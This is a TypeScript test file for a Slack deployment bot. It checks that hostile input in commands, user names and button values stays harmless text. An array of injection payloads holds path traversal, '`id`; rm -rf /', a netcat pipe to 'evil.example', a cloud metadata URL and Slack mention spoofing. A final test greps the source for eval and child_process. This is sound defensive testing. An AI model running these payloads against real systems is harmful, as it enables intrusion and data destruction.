import { spawnSync } from 'node:child_process';
import { historyLine, linked } from './blocks/answers.js';
import { CHANNEL, PEOPLE, startScene, type Scene } from './testing/start-scene.js';

let scene: Scene | undefined;
afterEach(async () => {
  await scene?.close();
  scene = undefined;
});

/** What a person may type, be called, or have pressed. */
const HOSTILE = [
  '../../../etc/passwd',
  'state/other/lease.json',
  '$(touch /tmp/pwned)',
  '`id`; rm -rf /',
  '| nc evil.example 80 #',
  'http://169.254.169.254/latest/meta-data',
  'https://evil.example/@fake.slack.com',
  '<!channel> <!here> <@U0ROOT>',
  '<https://evil.example|Roll back>',
  '<!date^0^{date}^https://evil.example|soon>',
  '*bold* _it_ ~no~ `code` ```block```',
  '&lt;!channel&gt;',
  '__proto__',
  'constructor',
  '\u202Eevil\u0000\u0007',
  '%2e%2e%2f%00',
  `${'가'.repeat(5_000)}`,
];
/** All that the bot and the engine ever write in these tests. */
const KEYS =
  /^(lease\.json|(journal|attempts)\/\d{13}-[A-Za-z0-9_-]+\.json|commands\/[0-9a-f]{64}\.json|slack\/(current\.json|tickets\/\d{13}-[0-9a-f]{16}\.json|taken\/[0-9a-f]{64}\.json))$/;
/** Markup that only the bot itself may use: links to Slack, dates, and mentions of people and groups by their names. */
const OURS =
  /^<(https?:\/\/(fake\.slack\.com|127\.0\.0\.1)[^|>]*\|[^<>]*|!date\^\d+\^[^|>^]*\|[^<>]*|@U0[A-Z]+|!subteam\^S0[A-Z]+)>$/;

/** Every text that anybody could see. */
function shown({ slack }: Scene): string[] {
  const texts: string[] = [];
  const walk = (value: unknown): void => {
    if (Array.isArray(value)) value.forEach(walk);
    else if (typeof value === 'object' && value !== null) {
      const { type, text } = value as { type?: unknown; text?: unknown };
      if (type === 'mrkdwn' && typeof text === 'string') texts.push(text);
      Object.values(value).forEach(walk);
    }
  };
  walk([slack.messages(), slack.ephemerals(), Object.values(PEOPLE).map((id) => slack.homeOf(id))]);
  return [...texts, ...slack.messages().map(({ text }) => text), ...slack.ephemerals().map(({ text }) => text)];
}

function expectHarmless(seen: Scene): void {
  for (const text of shown(seen)) {
    for (const [markup] of text.matchAll(/<[^>]*>/g)) expect(markup).toMatch(OURS);
  }
  expect([...seen.world.documents.keys()].filter((key) => !KEYS.test(key))).toEqual([]);
  // Names and reasons are shown on terminals as well.
  for (const { body } of seen.world.documents.values()) expect(body).not.toMatch(/\\u00[01][0-9a-f]|\u202E/);
}

it.each(['', 'lock ', 'green ', 'plan ', 'switch production ', 'status '])(
  'takes whatever is typed after "%s" for words, and for nothing else',
  async (before) => {
    scene = await startScene();
    const { slack } = scene;
    for (const [index, text] of HOSTILE.entries()) {
      await slack.send.slashCommand({ user: PEOPLE.root, channel: CHANNEL, text: `${before}${text}` });
      await slack.until(() => slack.ephemerals(PEOPLE.root).length > index);
    }
    expectHarmless(scene);
    expect(scene.world).toMatchObject({ live: 'blue', writes: 0, deployments: [] });
  },
);

it('shows people by whatever name they gave themselves, as mere words', async () => {
  for (const name of HOSTILE.slice(2, 12)) {
    scene = await startScene({
      slack: {
        users: [
          { id: PEOPLE.root, name },
          { id: PEOPLE.vi, name: 'vi' },
        ],
      },
    });
    const { slack } = scene;
    await slack.send.slashCommand({ user: PEOPLE.root, channel: CHANNEL, text: `lock ${name}` });
    await slack.until(() => slack.ephemerals(PEOPLE.root).length === 1);
    for (const text of ['status', 'history', 'who']) {
      await slack.send.slashCommand({ user: PEOPLE.vi, channel: CHANNEL, text });
    }
    await slack.send.event({ type: 'app_home_opened', user: PEOPLE.vi, tab: 'home', channel: 'D0VI' });
    await slack.until(() => slack.ephemerals(PEOPLE.vi).length === 3 && slack.homeOf(PEOPLE.vi));
    expectHarmless(scene);
    await scene.close();
  }
  scene = undefined;
});

it('believes no button that it did not make', async () => {
  scene = await startScene();
  const { slack } = scene;
  const message = await scene.shows(await scene.deploy('switch'), 'Waiting for a decision');
  const press = { user: PEOPLE.root, channel: CHANNEL, message: message.ts };
  const values = HOSTILE.flatMap((text) => [
    text.slice(0, 2_000),
    JSON.stringify(['production', text, '']).slice(0, 2_000),
    JSON.stringify([text, '8232000000000-00000000000000aa', 'ab']).slice(0, 2_000),
  ]);
  for (const [index, value] of values.entries()) {
    const actionId = `ticket.${['switch', 'approve', 'rollback', 'details', 'constructor'][index % 5]}`;
    await slack.send.action({ ...press, actionId, stale: { value } });
    await slack.until(() => slack.ephemerals(PEOPLE.root).length > index);
  }
  expectHarmless(scene);
  expect(scene.world.writes).toBe(0);
});

it.each([
  ['https://evil.example|<!channel>', 'text'],
  ['javascript:alert(1)', 'text'],
  ['https://a b', 'text'],
  ['https://ci.example/job/1?a=1&b=2', '<https://ci.example/job/1?a=1&amp;b=2|text>'],
])('makes a link of %s only where it is one', (url, expected) => {
  expect(linked('text', url)).toBe(expected);
});

it('shows a verb that it does not know as it stands', () => {
  const entry = { id: 'x', owner: 'x', surface: 'x', link: null, sequence: null, reason: '', deploymentId: null };
  const rest = {
    startedAt: '2026-01-05T03:00:00.000Z',
    endedAt: null,
    from: null,
    to: null,
    release: null,
    error: null,
  };
  const line = historyLine({ ...entry, ...rest, proof: null, verb: 'constructor', end: null, state: 'ended' }, 'en');
  expect(line).toContain('*constructor*');
});

it('starts no program, and takes no address from anybody', () => {
  const found = spawnSync(
    'grep',
    ['-rnE', 'child_process|\\beval\\(|new Function|\\bfetch\\(', __dirname, '--include=*.ts', '--exclude=*.spec.ts'],
    { encoding: 'utf8' },
  );
  expect(found.stdout).toBe('');
});
